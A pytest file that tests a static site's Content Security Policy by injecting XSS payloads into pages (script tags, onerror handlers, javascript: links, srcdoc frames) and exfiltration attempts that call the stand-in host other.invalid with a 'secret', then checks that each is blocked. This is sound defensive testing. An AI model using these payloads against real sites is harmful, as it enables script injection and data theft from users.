"""The content security policy: on every page, strict, kept by what we ship, and it holds."""

import re
from types import SimpleNamespace

import policy
import pytest
from bs4 import BeautifulSoup
from support import pages

BUILT = sorted(path.relative_to(pages.SITE).as_posix() for path in pages.SITE.rglob("*.html"))
PLAIN = "book/appendix/bibliography"
LIVE = next(page for page in pages.CHAPTERS if pages.built(page).select("softmax-explorer"))
every_file = pytest.mark.parametrize("file", BUILT)
# Code that says so when it runs, in each way that a page can hold it.
ATTACKS = {
    "script": "<script>window.ran = 1</script>",
    "module": '<script type="module">window.ran = 1</script>',
    "handler": '<img src="data:," onerror="window.ran = 1">',
    "link": '<a href="javascript:window.ran = 1">link</a>',
    "frame": '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    "file": '<script src="data:text/javascript,window.ran = 1"></script>',
    "host": '<script src="https://other.invalid/a.js"></script>',
}
# What may not leave the page, or change it.
LEAKS = {
    "fetch": "fetch('https://other.invalid/?secret').catch(() => {})",
    "picture": "new Image().src = 'https://other.invalid/?secret'",
    "style": "document.head.append(Object.assign(document.createElement('style'), "
    "{ textContent: 'p { color: red }' }))",
    "code": "setTimeout('window.ran = 1')",
    "base": "document.head.append(Object.assign(document.createElement('base'), "
    "{ href: 'https://other.invalid/' }))",
    "form": "document.body.append(Object.assign(document.createElement('form'), "
    "{ action: 'https://other.invalid/' })), document.forms[document.forms.length - 1].submit()",
}


def head(file):
    return pages.built(file.removesuffix(".html")).head


def rules(file):
    """What a page's policy allows, by kind."""
    (tag,) = head(file).select('meta[http-equiv="Content-Security-Policy"]')
    return {name: set(sources) for name, *sources in map(str.split, tag["content"].split(";"))}


# Notes what the policy forbids, in frames too.
WATCH = """
top.forbidden ??= [];
top.firstForbidden ??= new Promise(resolve => { top.tellForbidden = resolve; });
addEventListener("securitypolicyviolation", event => {
    top.forbidden.push(event.effectiveDirective);
    top.tellForbidden(event.effectiveDirective);
});
"""
# Playwright's own waiting would need `eval`, which the policy forbids.
FIRST = "Promise.race([firstForbidden, new Promise(resolve => setTimeout(resolve, 10000))])"


@pytest.fixture
def visit(browser, server):
    """Open a page, changed on its way if asked for, and note what its policy forbids."""
    context = browser.new_context()
    context.add_init_script(WATCH)

    def open_page(page, change=lambda html: html):
        tab = context.new_page()
        address = f"{server}{page}.html"

        def answer(route):
            response = route.fetch()
            route.fulfill(response=response, body=change(response.text()))

        tab.route(address, answer)
        tab.goto(address, wait_until="load")
        return tab

    yield open_page
    context.close()


@every_file
def test_policy_is_strict(file):
    found = rules(file)
    assert found["default-src"] == found["base-uri"] == {"'none'"}
    assert found["form-action"] == found["font-src"] == found["connect-src"] == {"'self'"}
    assert found["img-src"] == {"'self'", "data:"}
    assert found["style-src-elem"] == {"'self'", policy.digest(policy.STYLE_WITHOUT_SCRIPTS)}
    assert found["script-src"] == {"'self'"}
    assert not set(found) - {
        "default-src", "base-uri", "form-action", "font-src", "connect-src", "img-src",
        "script-src",
        "style-src", "style-src-elem", "style-src-attr",
    }  # fmt: skip


@every_file
def test_policy_comes_before_all_that_it_governs(file):
    tags = [tag.get("http-equiv") or tag.name for tag in head(file).find_all(True)]
    first = tags.index("Content-Security-Policy")
    assert not set(tags[:first]) & {"script", "style", "link", "base"}


@every_file
def test_no_tag_holds_a_script_of_its_own(file):
    # All of the page: what the other tests read lacks the tags within formulas and code.
    for tag in BeautifulSoup(pages.html(file.removesuffix(".html")), "html.parser").find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")], tag
        assert not str(tag.get("href", "")).startswith("javascript:"), tag


@pytest.mark.parametrize(
    "body", ["<p></p>\n<script>x</script>", "</softmax-check>\n<SCRIPT type='module'>x</SCRIPT>"]
)
def test_a_script_in_a_page_is_a_warning(body, monkeypatch):
    said = []
    logger = SimpleNamespace(warning=lambda text, location: said.append(location))
    monkeypatch.setattr(policy, "logger", logger)
    context = {"body": body}
    policy.set_policy(None, "page", "page.html", context, None)
    assert said == ["page"]
    assert "script-src 'self';" in context["content_policy"]
    policy.set_policy(None, "page", "page.html", {"body": "<p>&lt;script></p>"}, None)
    assert said == ["page"]


def test_what_we_ship_keeps_to_the_policy(visit, laid_out):
    tab = visit(LIVE)
    laid_out(tab)
    for live in tab.locator(".softmax-live").all():
        assert live.locator("form").count() == 1, "the live figure does not run"
    tab.keyboard.press("Control+k")
    tab.locator("dialog input[type=search]").wait_for(state="visible")
    assert tab.evaluate("forbidden") == []
    tab.keyboard.type("logits")
    tab.locator(".search-results a").first.wait_for(timeout=10_000)
    assert tab.evaluate("forbidden") == []


def test_checkers_can_ask_for_robots_through_the_page(visit):
    asked = "fetch(new URL('/robots.txt', location)).then(answer => answer.status)"
    tab = visit(PLAIN)
    assert tab.evaluate(asked) in (200, 404)
    assert tab.evaluate("forbidden") == []


def test_the_print_button_prints(visit):
    tab = visit(PLAIN)
    tab.evaluate("() => { window.print = () => { window.printed = true; }; }")
    tab.locator(".btn-download-pdf-button").dispatch_event("click")
    assert tab.evaluate("window.printed && !forbidden.length")


def with_attack(attack):
    return lambda html: html.replace("</article>", f"{attack}</article>")


def without_policy(html):
    return re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)


def follow(tab):
    for link in tab.locator("a[href^='javascript:']").all():
        link.dispatch_event("click")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_code_that_gets_into_a_page_does_not_run(visit, attack):
    tab = visit(PLAIN, with_attack(attack))
    follow(tab)
    assert tab.evaluate(FIRST).startswith("script-src")
    assert tab.evaluate("window.ran === undefined")


@pytest.mark.parametrize("attack", list(ATTACKS.values())[:-1], ids=list(ATTACKS)[:-1])
def test_without_the_policy_it_would_run(visit, attack):
    tab = visit(PLAIN, lambda html: with_attack(attack)(without_policy(html)))
    follow(tab)
    tab.wait_for_function("window.ran !== undefined")
    assert tab.evaluate("window.ran") == 1


@pytest.mark.parametrize("leak", LEAKS.values(), ids=list(LEAKS))
def test_nothing_is_sent_or_dressed_up(visit, leak):
    tab = visit(PLAIN)
    tab.evaluate(f"() => {{ {leak} }}")
    assert tab.evaluate(FIRST)
    assert tab.evaluate("window.ran === undefined")
